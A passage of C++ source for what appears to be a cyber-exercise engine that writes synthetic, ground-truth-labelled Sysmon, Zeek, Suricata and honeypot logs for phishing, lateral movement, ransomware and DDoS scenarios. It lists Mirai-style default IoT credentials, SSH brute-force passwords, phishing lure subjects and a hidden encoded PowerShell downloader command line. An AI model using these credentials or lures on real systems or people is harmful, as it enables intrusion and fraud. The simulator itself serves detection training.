#include "sim/engine.h"

#include <fmt/format.h>

#include <algorithm>
#include <cmath>
#include <queue>
#include <set>

#include "core/json.h"
#include "sim/output.h"
#include "sim/world.h"

namespace ncert::sim {
namespace {

using internal::Json;
using internal::LineOutput;
using internal::PcapOutput;

constexpr int64_t kSecond = 1000000;
constexpr int64_t kMinute = 60 * kSecond;
constexpr int64_t kHour = 60 * kMinute;

// A process as Sysmon names it.
struct Proc {
  std::string guid;
  int64_t pid;
  std::string image, cmd;
};

// Things scheduled for later in the play, run in time order.
enum class TaskKind {
  kEmail,
  kInfect,
  kSpread,
  kEncrypt,
  kNews,
  kPost,
  kExploit
};
struct Task {
  int64_t t;
  uint64_t seq;  // ties keep insertion order
  TaskKind kind;
  int64_t a = 0, b = 0;
  std::string text;
  bool operator>(const Task& o) const {
    return t != o.t ? t > o.t : seq > o.seq;
  }
};

struct Implant {
  uint32_t host;
  int64_t next_beacon;
  size_t c2;
};

struct Backscatter {
  int64_t start, end;
  double pps;
  std::vector<uint32_t> victims;
};

// Benign Windows activity for the background.
struct BenignProc {
  const char* image;
  const char* cmd;
  const char* parent;
};
constexpr BenignProc kBenign[] = {
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" "
     "--type=renderer",
     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"},
    {"C:\\Windows\\System32\\svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
     "C:\\Windows\\System32\\services.exe"},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /dde",
     "C:\\Windows\\explorer.exe"},
    {"C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
     "\"Teams.exe\" --process-start-reason=AutoStart",
     "C:\\Windows\\explorer.exe"},
    {"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
     "\"OneDrive.exe\" /background", "C:\\Windows\\explorer.exe"},
    {"C:\\Windows\\System32\\taskhostw.exe",
     "taskhostw.exe -RegisterDevice -ProtectionStateChanged",
     "C:\\Windows\\System32\\svchost.exe"},
    {"C:\\Windows\\System32\\conhost.exe",
     "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
     "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\SearchProtocolHost.exe",
     "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" "
     "Global\\UsGthrFltPipeMssGthrPipe1",
     "C:\\Windows\\System32\\SearchIndexer.exe"},
};

constexpr const char* kLureJa[] = {
    "【至急】請求書送付のご案内（{month}月分）",
    "Re: 先日のお打ち合わせの件",
    "見積書ご確認のお願い",
    "納期変更に関するご連絡",
    "Re: 【{org}】部品発注書の送付について",
    "賞与支給額のお知らせ",
};
constexpr const char* kLureEn[] = {
    "Invoice {month} - payment overdue",
    "RE: purchase order revision",
    "Updated delivery schedule",
    "RE: meeting minutes",
};
constexpr const char* kMiraiCreds[][2] = {
    {"root", "xc3511"},   {"root", "vizxv"},     {"admin", "admin"},
    {"root", "888888"},   {"root", "xmhdipc"},   {"root", "default"},
    {"root", "juantech"}, {"root", "123456"},    {"support", "support"},
    {"root", "klv123"},   {"admin", "password"}, {"root", "hi3518"}};
constexpr const char* kSshCreds[][2] = {
    {"root", "root"},     {"root", "123456"},  {"admin", "admin"},
    {"ubuntu", "ubuntu"}, {"test", "test"},    {"oracle", "oracle"},
    {"pi", "raspberry"},  {"user", "password"}};
constexpr uint16_t kScanPorts[] = {22,   80,   443,  445,  3389, 8080, 1433,
                                   3306, 5900, 6379, 5555, 8443, 21,   25,
                                   110,  143,  161,  1900, 9200, 23};

class Engine {
 public:
  Engine(const Scenario& sc, const World& w, OutputDir& dir,
         const RunOptions& opt)
      : sc_(sc),
        w_(w),
        dir_(dir),
        opt_(opt),
        root_(opt.seed),
        play_(root_.Fork("play")),
        bg_(root_.Fork("background")),
        net_(root_.Fork("network")),
        dark_(root_.Fork("darknet")),
        hp_(root_.Fork("honeypot")),
        text_(root_.Fork("text")),
        sysmon_(dir, "endpoint/sysmon.ndjson", "sysmon-json",
                "truth/sysmon.ndjson"),
        eve_(dir, "network/eve.json", "suricata-eve", "truth/eve.ndjson"),
        conn_(dir, "network/zeek/conn.log", "zeek-conn",
              "truth/zeek-conn.ndjson"),
        dns_(dir, "network/zeek/dns.log", "zeek-dns", "truth/zeek-dns.ndjson"),
        http_(dir, "network/zeek/http.log", "zeek-http",
              "truth/zeek-http.ndjson"),
        cowrie_(dir, "sensors/cowrie.json", "cowrie", "truth/cowrie.ndjson"),
        dionaea_(dir, "sensors/dionaea.json", "dionaea",
                 "truth/dionaea.ndjson"),
        posts_(dir, "osint/posts.ndjson", "posts", "truth/posts.ndjson"),
        news_(dir, "osint/news.ndjson", "news", "truth/news.ndjson"),
        dark_truth_(dir, "truth/darknet.ndjson", "truth", ""),
        pcap_(dir, "sensors/darknet.pcap") {}

  Status Run(RunSummary* out);

 private:
  // ---- helpers ----
  const Host& H(uint32_t i) const { return w_.hosts[i]; }
  const Org& O(uint32_t i) const { return w_.orgs[i]; }
  std::string Fqdn(const Host& h) const {
    return h.name + "." + O(h.org).domain;
  }
  std::string Guid(Rng& r) {
    return fmt::format("{{{}-{}-{}-{}-{}}}", r.Hex(8), r.Hex(4), r.Hex(4),
                       r.Hex(4), r.Hex(12));
  }
  std::string Uid(Rng& r) {
    static constexpr char kB62[] =
        "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    std::string s = "C";
    for (int i = 0; i < 17; ++i) s += kB62[r.Below(62)];
    return s;
  }
  uint32_t RandomInternetIp(Rng& r) {
    while (true) {
      uint32_t ip = static_cast<uint32_t>(r.Next() >> 32);
      uint32_t a = ip >> 24;
      if (a == 0 || a == 10 || a == 127 || a >= 224 || a == 100 || a == 198 ||
          a == 192 || a == 172 || a == 169) {
        continue;
      }
      return ip;
    }
  }
  uint32_t DarknetIp(Rng& r) {
    return w_.darknet_base + static_cast<uint32_t>(r.Below(w_.darknet_size));
  }
  void Schedule(int64_t t, TaskKind k, int64_t a, int64_t b = 0,
                std::string text = {}) {
    tasks_.push(Task{t, seq_++, k, a, b, std::move(text)});
  }
  void Seen(const std::string& value, int64_t t) {
    st_.first_seen.emplace(value, t);
  }
  static std::string Label(std::string_view host, std::string_view technique,
                           std::string_view what) {
    Json j;
    j.Str("label", "malicious").Str("host", host);
    if (!technique.empty()) j.Str("technique", technique);
    j.Str("what", what);
    std::string s = j.Done();
    return s.substr(1, s.size() - 2);
  }

  // ---- Sysmon ----
  Json SysmonBase(int64_t t, const Host& h, int id) {
    Json j;
    j.Str("@timestamp", internal::Rfc3339(t))
        .Int("EventID", id)
        .Str("Hostname", Fqdn(h))
        .Str("SourceName", "Microsoft-Windows-Sysmon")
        .Str("Channel", "Microsoft-Windows-Sysmon/Operational")
        .Str("ProviderGuid", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
        .Str("Level", "4")
        .Str("Task", std::to_string(id))
        .Str("Keywords", "0x8000000000000000")
        .Int("RecordNumber", ++record_number_)
        .Str("UtcTime", internal::SysmonUtc(t))
        .Str("RuleName", "-");
    return j;
  }
  std::string UserOf(const Host& h) const {
    return fmt::format("{}\\{}", O(h.org).code,
                       h.user.empty() ? "SYSTEM" : h.user);
  }
  void ProcessCreate(int64_t t, const Host& h, const Proc& p,
                     const Proc& parent, const std::string& hashes,
                     std::string truth, Rng& r) {
    Json j = SysmonBase(t, h, 1);
    std::string image_name = p.image.substr(p.image.rfind('\\') + 1);
    j.Str("ProcessGuid", p.guid)
        .Str("ProcessId", std::to_string(p.pid))
        .Str("Image", p.image)
        .Str("OriginalFileName", image_name)
        .Str("CommandLine", p.cmd)
        .Str("CurrentDirectory", fmt::format("C:\\Users\\{}\\", h.user))
        .Str("User", UserOf(h))
        .Str("LogonId", fmt::format("0x{}", r.Hex(5)))
        .Str("IntegrityLevel", "Medium")
        .Str("Hashes", hashes)
        .Str("ParentProcessGuid", parent.guid)
        .Str("ParentProcessId", std::to_string(parent.pid))
        .Str("ParentImage", parent.image)
        .Str("ParentCommandLine", parent.cmd);
    sysmon_.Add(t, j.Done(), std::move(truth));
  }
  void NetworkConnect(int64_t t, const Host& h, const Proc& p, uint32_t dst,
                      uint16_t dport, std::string dst_name, std::string truth,
                      Rng& r) {
    Json j = SysmonBase(t, h, 3);
    j.Str("ProcessGuid", p.guid)
        .Str("ProcessId", std::to_string(p.pid))
        .Str("Image", p.image)
        .Str("User", UserOf(h))
        .Str("Protocol", "tcp")
        .Str("Initiated", "true")
        .Str("SourceIsIpv6", "false")
        .Str("SourceIp", FormatIpv4(h.ip))
        .Str("SourceHostname", Fqdn(h))
        .Str("SourcePort", std::to_string(r.Range(49152, 65535)))
        .Str("DestinationIsIpv6", "false")
        .Str("DestinationIp", FormatIpv4(dst))
        .Str("DestinationHostname", dst_name)
        .Str("DestinationPort", std::to_string(dport));
    sysmon_.Add(t, j.Done(), std::move(truth));
  }
  void FileCreate(int64_t t, const Host& h, const Proc& p,
                  const std::string& path, std::string truth) {
    Json j = SysmonBase(t, h, 11);
    j.Str("ProcessGuid", p.guid)
        .Str("ProcessId", std::to_string(p.pid))
        .Str("Image", p.image)
        .Str("TargetFilename", path)
        .Str("CreationUtcTime", internal::SysmonUtc(t))
        .Str("User", UserOf(h));
    sysmon_.Add(t, j.Done(), std::move(truth));
  }
  void RegistrySet(int64_t t, const Host& h, const Proc& p,
                   const std::string& key, const std::string& details,
                   std::string truth) {
    Json j = SysmonBase(t, h, 13);
    j.Str("EventType", "SetValue")
        .Str("ProcessGuid", p.guid)
        .Str("ProcessId", std::to_string(p.pid))
        .Str("Image", p.image)
        .Str("TargetObject", key)
        .Str("Details", details)
        .Str("User", UserOf(h));
    sysmon_.Add(t, j.Done(), std::move(truth));
  }
  void DnsQuery(int64_t t, const Host& h, const Proc& p,
                const std::string& name, uint32_t answer, std::string truth) {
    Json j = SysmonBase(t, h, 22);
    j.Str("ProcessGuid", p.guid)
        .Str("ProcessId", std::to_string(p.pid))
        .Str("QueryName", name)
        .Str("QueryStatus", "0")
        .Str("QueryResults", fmt::format("::ffff:{};", FormatIpv4(answer)))
        .Str("Image", p.image)
        .Str("User", UserOf(h));
    sysmon_.Add(t, j.Done(), std::move(truth));
  }
  Proc NewProc(Rng& r, std::string image, std::string cmd) {
    return Proc{Guid(r), r.Range(1000, 24000), std::move(image),
                std::move(cmd)};
  }
  std::string Hashes(Rng& r) {
    return fmt::format("SHA1={},MD5={},SHA256={},IMPHASH={}", r.Hex(40),
                       r.Hex(32), r.Hex(64), r.Hex(32));
  }

  // ---- network (Zeek + EVE) ----
  void ZeekConn(int64_t t, const std::string& uid, uint32_t src, uint16_t sport,
                uint32_t dst, uint16_t dport, std::string_view proto,
                std::string_view service, int64_t ob, int64_t rb,
                std::string_view state, std::string truth, Rng& r) {
    Json j;
    j.Str("ts", "").Str("uid", uid);  // ts replaced below (a number)
    std::string s;
    Json k;
    k.Raw("ts", internal::ZeekTime(t))
        .Str("uid", uid)
        .Str("id.orig_h", FormatIpv4(src))
        .Int("id.orig_p", sport)
        .Str("id.resp_h", FormatIpv4(dst))
        .Int("id.resp_p", dport)
        .Str("proto", proto);
    if (!service.empty()) k.Str("service", service);
    k.Num("duration", static_cast<double>(r.Range(1, 4000)) / 1000.0, 6)
        .Int("orig_bytes", ob)
        .Int("resp_bytes", rb)
        .Str("conn_state", state)
        .Bool("local_orig", (src >> 24) == 10)
        .Bool("local_resp", (dst >> 24) == 10)
        .Int("missed_bytes", 0)
        .Str("history", state == "SF"   ? "ShADadfF"
                        : state == "S0" ? "S"
                                        : "ShR")
        .Int("orig_pkts", 2 + ob / 1400)
        .Int("orig_ip_bytes", 80 + ob)
        .Int("resp_pkts", 2 + rb / 1400)
        .Int("resp_ip_bytes", 80 + rb);
    conn_.Add(t, k.Done(), std::move(truth));
  }
  void ZeekDns(int64_t t, const std::string& uid, uint32_t src,
               uint32_t resolver, const std::string& query, uint32_t answer,
               std::string truth, Rng& r, bool eve = true) {
    uint16_t sport = static_cast<uint16_t>(r.Range(49152, 65535));
    Json k;
    k.Raw("ts", internal::ZeekTime(t))
        .Str("uid", uid)
        .Str("id.orig_h", FormatIpv4(src))
        .Int("id.orig_p", sport)
        .Str("id.resp_h", FormatIpv4(resolver))
        .Int("id.resp_p", 53)
        .Str("proto", "udp")
        .Int("trans_id", r.Range(1, 65535))
        .Num("rtt", static_cast<double>(r.Range(200, 40000)) / 1e6, 6)
        .Str("query", query)
        .Int("qclass", 1)
        .Str("qclass_name", "C_INTERNET")
        .Int("qtype", 1)
        .Str("qtype_name", "A")
        .Int("rcode", 0)
        .Str("rcode_name", "NOERROR")
        .Bool("AA", false)
        .Bool("TC", false)
        .Bool("RD", true)
        .Bool("RA", true)
        .Int("Z", 0)
        .StrList("answers", {FormatIpv4(answer)})
        .Raw("TTLs", "[300.0]")
        .Bool("rejected", false);
    dns_.Add(t, k.Done(), truth);
    if (!eve) return;
    // Suricata logs the same query.
    Json e =
        EveHeader(t, FlowId(r), "eth1", "dns", src, sport, resolver, 53, "UDP");
    e.Raw("dns", Json()
                     .Str("type", "query")
                     .Int("id", r.Range(1, 65535))
                     .Str("rrname", query)
                     .Str("rrtype", "A")
                     .Int("tx_id", 0)
                     .Done());
    eve_.Add(t, e.Done(), std::move(truth));
  }
  void ZeekHttp(int64_t t, const std::string& uid, uint32_t src, uint16_t sport,
                uint32_t dst, uint16_t dport, std::string_view method,
                const std::string& host, const std::string& uri,
                std::string_view ua, int status, int64_t req_len,
                int64_t resp_len, std::string truth) {
    Json k;
    k.Raw("ts", internal::ZeekTime(t))
        .Str("uid", uid)
        .Str("id.orig_h", FormatIpv4(src))
        .Int("id.orig_p", sport)
        .Str("id.resp_h", FormatIpv4(dst))
        .Int("id.resp_p", dport)
        .Int("trans_depth", 1)
        .Str("method", method)
        .Str("host", host)
        .Str("uri", uri)
        .Str("version", "1.1")
        .Str("user_agent", ua)
        .Int("request_body_len", req_len)
        .Int("response_body_len", resp_len)
        .Int("status_code", status)
        .Str("status_msg", status == 200 ? "OK" : "Not Found");
    http_.Add(t, k.Done(), std::move(truth));
  }
  int64_t FlowId(Rng& r) { return static_cast<int64_t>(r.Next() >> 13); }
  // The members every Suricata EVE record starts with, in EVE's order.
  static Json EveHeader(int64_t t, int64_t flow_id, std::string_view iface,
                        std::string_view event_type, uint32_t src,
                        int64_t sport, uint32_t dst, int64_t dport,
                        std::string_view proto) {
    Json e;
    e.Str("timestamp", internal::EveTime(t))
        .Int("flow_id", flow_id)
        .Str("in_iface", iface)
        .Str("event_type", event_type)
        .Str("src_ip", FormatIpv4(src))
        .Int("src_port", sport)
        .Str("dest_ip", FormatIpv4(dst))
        .Int("dest_port", dport)
        .Str("proto", proto);
    return e;
  }
  void EveAlert(int64_t t, uint32_t src, uint16_t sport, uint32_t dst,
                uint16_t dport, int64_t sid, std::string_view signature,
                std::string_view category, int severity, std::string truth,
                Rng& r, std::string_view app = "") {
    Json a;
    a.Str("action", "allowed")
        .Int("gid", 1)
        .Int("signature_id", sid)
        .Int("rev", 3)
        .Str("signature", signature)
        .Str("category", category)
        .Int("severity", severity);
    Json e =
        EveHeader(t, FlowId(r), "eth1", "alert", src, sport, dst, dport, "TCP");
    if (!app.empty()) e.Str("app_proto", app);
    e.Raw("alert", a.Done());
    eve_.Add(t, e.Done(), std::move(truth));
  }
  uint32_t PublicOf(const Host& h) const { return O(h.org).public_base + 2; }
  uint32_t ResolverOf(const Host& h) const {
    return O(h.org).internal_base + 2;
  }

  // ---- the play ----
  void FireAction(const ActionSpec& a, int64_t t);
  void RunTask(const Task& task);
  void Infect(uint32_t host, int64_t t, const std::string& via, int64_t from);
  void InfectionChain(uint32_t host, int64_t t, const std::string& via,
                      int64_t from);
  void Beacon(Implant& imp, int64_t t);
  void Encrypt(uint32_t org, int64_t t);
  void SendEmail(uint32_t host, int64_t t, bool opened, bool ja);
  void VpnExploit(uint32_t org, int64_t t, int attempts);
  void WriteNews(const std::string& topic, int64_t org, int64_t t);
  void WritePost(const std::string& topic, int64_t org, int64_t t,
                 bool malicious_topic);
  void Background(int64_t t0);
  Status Darknet(int64_t t0);
  void Honeypots(int64_t t0);
  void CowrieSession(int64_t t, uint32_t src, bool bot, uint32_t honeypot);
  double SurgeMultiplier(int64_t t) const;
  void GrowBots(int64_t t);
  Status FlushAll();
  Status CloseAll(std::vector<OutputFile>* files);
  std::string GroundTruth(const RunSummary& s,
                          const std::vector<std::string>& indicator_truth,
                          const std::vector<std::string>& sbom_truth);

  const Scenario& sc_;
  const World& w_;
  OutputDir& dir_;
  RunOptions opt_;
  Rng root_, play_, bg_, net_, dark_, hp_, text_;
  LineOutput sysmon_, eve_, conn_, dns_, http_, cowrie_, dionaea_, posts_,
      news_, dark_truth_;
  PcapOutput pcap_;

  internal::PlayState st_;
  std::priority_queue<Task, std::vector<Task>, std::greater<>> tasks_;
  uint64_t seq_ = 0;
  int64_t start_ = 0;
  int64_t record_number_ = 100000;
  std::vector<uint8_t> infected_;  // per host
  std::vector<uint8_t> encrypted_;
  std::vector<Implant> implants_;
  std::vector<uint32_t> pcs_;  // PCs and servers of non-ISP orgs
  std::vector<std::pair<int64_t, int64_t>> lateral_;  // none or one entry
  double lateral_mean_min_ = 0, cross_org_ = 0;
  int64_t lateral_max_ = 0;
  bool lateral_on_ = false;
  std::vector<uint32_t> target_orgs_;  // orgs a phishing wave hit
  std::vector<uint32_t> bot_order_;    // devices in the order they fall
  size_t bots_base_ = 0;
  std::vector<Backscatter> ddos_;
  std::vector<std::string> orgs_hit_;
  std::set<std::string> sectors_hit_;
};

double Engine::SurgeMultiplier(int64_t t) const {
  if (st_.surge_event_us < 0 || t < st_.surge_event_us) return 1.0;
  double ramp = st_.surge_ramp_hours * kHour;
  double f =
      ramp <= 0
          ? 1.0
          : std::min(1.0, static_cast<double>(t - st_.surge_event_us) / ramp);
  return 1.0 + (st_.surge_factor - 1.0) * f;
}

void Engine::GrowBots(int64_t t) {
  if (bot_order_.empty()) return;
  size_t want = std::min(
      bot_order_.size(),
      static_cast<size_t>(
          std::llround(static_cast<double>(bots_base_) * SurgeMultiplier(t))));
  while (st_.bots.size() < want) {
    uint32_t h = bot_order_[st_.bots.size()];
    st_.bots.push_back({h, t});
  }
}

void Engine::FireAction(const ActionSpec& a, int64_t t) {
  Rng& r = play_;
  if (a.action == "phishing_wave") {
    auto orgs = w_.OrgsOf(a.Text("targets", ""));
    std::vector<uint32_t> hosts;
    for (uint32_t o : orgs) {
      target_orgs_.push_back(o);
      for (uint32_t h = O(o).first_host; h < O(o).first_host + O(o).host_count;
           ++h) {
        if (H(h).kind == HostKind::kPc) hosts.push_back(h);
      }
    }
    if (hosts.empty()) return;
    int emails = static_cast<int>(a.Number("emails", 50));
    double hours = a.Number("hours", 2);
    double open_rate = a.Number("open_rate", 0.25);
    bool ja = a.Text("lang", "ja") == "ja";
    if (st_.first_phish_us < 0) st_.first_phish_us = t;
    bool any_open = false;
    for (int i = 0; i < emails; ++i) {
      int64_t at = t + static_cast<int64_t>(r.Uniform() * hours * kHour);
      uint32_t h = hosts[r.Below(hosts.size())];
      bool opened = r.Chance(open_rate) || (i == emails - 1 && !any_open);
      any_open = any_open || opened;
      Schedule(at, TaskKind::kEmail, h, (opened ? 1 : 0) | (ja ? 2 : 0));
    }
  } else if (a.action == "lateral_spread") {
    lateral_on_ = true;
    lateral_mean_min_ = a.Number("mean_minutes", 90);
    lateral_max_ = static_cast<int64_t>(a.Number("max_hosts", 1e9));
    cross_org_ = a.Number("cross_org", 0.1);
    for (const auto& inf : st_.infections) {
      Schedule(
          t + static_cast<int64_t>(r.Exponential(lateral_mean_min_) * kMinute),
          TaskKind::kSpread, inf.host);
    }
  } else if (a.action == "vpn_exploit") {
    auto orgs = w_.OrgsOf(a.Text("org", ""));
    if (!orgs.empty())
      VpnExploit(orgs[0], t, static_cast<int>(a.Number("attempts", 40)));
  } else if (a.action == "ransomware") {
    auto orgs = w_.OrgsOf(a.Text("org", ""));
    if (orgs.empty()) return;
    // The org of that entry that was infected first, else the first.
    uint32_t org = orgs[0];
    bool found = false;
    for (const auto& inf : st_.infections) {
      for (uint32_t o : orgs) {
        if (!found && H(inf.host).org == o) {
          org = o;
          found = true;
        }
      }
    }
    if (!found && O(org).host_count > 0)
      Infect(O(org).first_host, t, "ransomware", -1);
    Schedule(t, TaskKind::kEncrypt, org);
  } else if (a.action == "business_stop") {
    auto orgs = w_.OrgsOf(a.Text("org", ""));
    if (orgs.empty()) return;
    internal::Incident inc;
    inc.kind = "business_stop";
    inc.org = orgs[0];
    inc.t_us = t;
    inc.end_us = t + static_cast<int64_t>(a.Number("hours", 24) * kHour);
    inc.plants = static_cast<int>(a.Number("plants", 14));
    st_.incidents.push_back(inc);
    Schedule(t + kHour, TaskKind::kNews, 0, orgs[0], "plant_stop");
    for (int i = 0; i < 24; ++i) {
      Schedule(t + static_cast<int64_t>(r.Uniform() * 8 * kHour),
               TaskKind::kPost, 1, orgs[0], "plant_stop");
    }
  } else if (a.action == "scan_surge") {
    st_.surge_event_us = t;
    st_.surge_factor = a.Number("factor", 10);
    st_.surge_ramp_hours = a.Number("ramp_hours", 2);
  } else if (a.action == "ddos") {
    Backscatter b;
    b.start = t;
    b.end = t + static_cast<int64_t>(a.Number("hours", 3) * kHour);
    b.pps = a.Number("pps", 2) * opt_.scale;
    int victims = static_cast<int>(a.Number("victims", 3));
    internal::Incident inc;
    inc.kind = "ddos";
    inc.t_us = b.start;
    inc.end_us = b.end;
    std::vector<uint32_t> candidates;
    for (uint32_t o = 0; o < w_.orgs.size(); ++o) {
      if (O(o).kind != "isp") candidates.push_back(o);
    }
    for (int i = 0; i < victims; ++i) {
      uint32_t ip;
      if (!candidates.empty()) {
        uint32_t o = candidates[r.Below(candidates.size())];
        ip = O(o).public_base + 2 + static_cast<uint32_t>(i % 8);
        inc.org = o;
      } else {
        ip = RandomInternetIp(r);
      }
      b.victims.push_back(ip);
    }
    inc.victims = b.victims;
    st_.incidents.push_back(inc);
    ddos_.push_back(std::move(b));
    for (int i = 0; i < 12; ++i) {
      Schedule(t + static_cast<int64_t>(r.Uniform() * 4 * kHour),
               TaskKind::kPost, 1, inc.org, "ddos");
    }
  } else if (a.action == "news") {
    auto orgs = w_.OrgsOf(a.Text("org", ""));
    int count = static_cast<int>(a.Number("count", 1));
    for (int i = 0; i < count; ++i) {
      Schedule(t + static_cast<int64_t>(i) * 40 * kMinute, TaskKind::kNews, 0,
               -1, a.Text("topic", "chatter"));
    }
  } else if (a.action == "posts") {
    int count = static_cast<int>(a.Number("count", 10));
    double hours = a.Number("hours", 6);
    std::string topic = a.Text("topic", "chatter");
    for (int i = 0; i < count; ++i) {
      Schedule(t + static_cast<int64_t>(r.Uniform() * hours * kHour),
               TaskKind::kPost, topic == "chatter" ? 0 : 1, -1, topic);
    }
  }
}

void Engine::SendEmail(uint32_t host, int64_t t, bool opened, bool ja) {
  Rng& r = net_;
  const Host& h = H(host);
  const Org& o = O(h.org);
  // The sender: a hijacked thread of a partner company, or a fake one.
  const Org& from_org = O(static_cast<uint32_t>(r.Below(w_.orgs.size())));
  std::string from =
      fmt::format("{}@{}", H(from_org.first_host).user, from_org.domain);
  std::string subject = ja ? kLureJa[r.Below(std::size(kLureJa))]
                           : kLureEn[r.Below(std::size(kLureEn))];
  std::string month = std::to_string(r.Range(1, 12));
  for (auto [k, v] : {std::pair<std::string, std::string>{"{month}", month},
                      {"{org}", ja ? o.name_ja : o.name}}) {
    size_t p = subject.find(k);
    if (p != std::string::npos) subject.replace(p, k.size(), v);
  }
  const Sample& s = w_.threat.samples[r.Below(w_.threat.samples.size())];
  uint32_t mx = o.internal_base + 3;
  uint32_t relay = w_.threat.c2_ips[r.Below(w_.threat.c2_ips.size())];
  // Drawn in this order so the output stays what it was.
  const int64_t flow_id = FlowId(r);
  const int64_t relay_port = r.Range(30000, 60000);
  Json e =
      EveHeader(t, flow_id, "eth0", "smtp", relay, relay_port, mx, 25, "TCP");
  e.Raw("smtp", Json()
                    .Str("helo", "mail." + from_org.domain)
                    .Str("mail_from", "<" + from + ">")
                    .StrList("rcpt_to", {"<" + h.user + "@" + o.domain + ">"})
                    .Done())
      .Raw("email", Json()
                        .Str("status", "PARSE_DONE")
                        .StrList("from", {from})
                        .StrList("to", {h.user + "@" + o.domain})
                        .Str("subject", subject)
                        .StrList("attachment", {s.file_name})
                        .Done());
  eve_.Add(t, e.Done(),
           Label(Fqdn(h), "T1566.001",
                 opened ? "phishing email, opened" : "phishing email"));
  Seen(FormatIpv4(relay), t);
  Seen(s.sha256, t);
  if (opened) {
    Schedule(t + static_cast<int64_t>(r.Exponential(25) * kMinute) + kMinute,
             TaskKind::kInfect, host, -1, "phishing");
  }
}

void Engine::Infect(uint32_t host, int64_t t, const std::string& via,
                    int64_t from) {
  if (infected_[host]) return;
  infected_[host] = 1;
  st_.infections.push_back({host, t, via, from});
  const Org& o = O(H(host).org);
  if (std::find(orgs_hit_.begin(), orgs_hit_.end(), o.name) ==
      orgs_hit_.end()) {
    orgs_hit_.push_back(o.name);
  }
  sectors_hit_.insert(o.sector);
  InfectionChain(host, t, via, from);
  Rng& r = play_;
  implants_.push_back({host, t + static_cast<int64_t>(r.Range(3, 9)) * kMinute,
                       r.Below(w_.threat.c2_ips.size())});
  if (lateral_on_) {
    Schedule(
        t + static_cast<int64_t>(r.Exponential(lateral_mean_min_) * kMinute),
        TaskKind::kSpread, host);
  }
}

void Engine::InfectionChain(uint32_t host, int64_t t, const std::string& via,
                            int64_t from) {
  Rng& r = bg_;
  const Host& h = H(host);
  std::string fq = Fqdn(h);
  const Threat& th = w_.threat;
  const Sample& s = th.samples[r.Below(th.samples.size())];
  std::string dir =
      fmt::format("C:\\Users\\{}\\AppData\\Local\\{}", h.user, r.Hex(8));
  std::string dll = fmt::format("{}\\{}.dll", dir, r.Hex(6));
  Proc parent;
  int64_t at = t;
  if (via == "phishing") {
    Proc outlook = NewProc(
        r, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"");
    std::string doc = fmt::format(
        "C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
        "Outlook\\{}\\{}",
        h.user, r.Hex(8), s.file_name);
    Proc word = NewProc(
        r, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        fmt::format("\"C:\\Program Files\\Microsoft "
                    "Office\\root\\Office16\\WINWORD.EXE\" /n \"{}\" /o \"\"",
                    doc));
    ProcessCreate(at, h, word, outlook, Hashes(r),
                  Label(fq, "T1204.002", "user opens the malicious attachment"),
                  r);
    at += r.Range(3, 9) * kSecond;
    parent = word;
  } else if (via == "lateral") {
    const Host& src = H(static_cast<uint32_t>(from));
    Proc sys = NewProc(r, "System", "System");
    Proc src_proc =
        NewProc(r, "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe");
    NetworkConnect(
        at - 2 * kSecond, src, src_proc, h.ip, 445, fq,
        Label(Fqdn(src), "T1021.002", "SMB lateral movement to " + h.name), r);
    std::string uid = Uid(r);
    ZeekConn(at - 2 * kSecond, uid, src.ip,
             static_cast<uint16_t>(r.Range(49152, 65535)), h.ip, 445, "tcp",
             "smb", r.Range(40000, 400000), r.Range(2000, 9000), "SF",
             Label(Fqdn(src), "T1021.002", "SMB lateral movement"), r);
    parent = NewProc(r, "C:\\Windows\\System32\\services.exe",
                     "C:\\Windows\\system32\\services.exe");
    (void)sys;
  } else if (via == "vpn") {
    parent = NewProc(r, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c");
    Proc who = NewProc(r, "C:\\Windows\\System32\\whoami.exe", "whoami /all");
    ProcessCreate(at, h, who, parent, Hashes(r),
                  Label(fq, "T1033", "discovery after VPN access"), r);
    Proc nl =
        NewProc(r, "C:\\Windows\\System32\\nltest.exe", "nltest /dclist:");
    ProcessCreate(at + 20 * kSecond, h, nl, parent, Hashes(r),
                  Label(fq, "T1482", "domain trust discovery"), r);
    at += 40 * kSecond;
  } else {
    parent =
        NewProc(r, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
  }
  // Download of the payload.
  Proc ps = NewProc(
      r, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      fmt::format("powershell.exe -nop -w hidden -enc {}", r.Hex(48)));
  ProcessCreate(at, h, ps, parent, Hashes(r),
                Label(fq, "T1059.001", "encoded PowerShell downloader"), r);
  size_t u = r.Below(std::max<size_t>(1, th.urls.size()));
  std::string domain =
      th.domains.empty() ? FormatIpv4(th.c2_ips[0]) : th.domains[u];
  std::string url = th.urls.empty() ? "http://" + domain + "/" : th.urls[u];
  uint32_t payload_ip = th.c2_ips[u % th.c2_ips.size()];
  DnsQuery(at + 1 * kSecond, h, ps, domain, payload_ip,
           Label(fq, "T1071.004", "payload domain lookup"));
  ZeekDns(at + 1 * kSecond, Uid(r), h.ip, ResolverOf(h), domain, payload_ip,
          Label(fq, "T1071.004", "payload domain lookup"), r);
  NetworkConnect(at + 2 * kSecond, h, ps, payload_ip, 80, domain,
                 Label(fq, "T1105", "payload download"), r);
  std::string uid = Uid(r);
  uint16_t sport = static_cast<uint16_t>(r.Range(49152, 65535));
  std::string path = url.substr(url.find('/', 8));
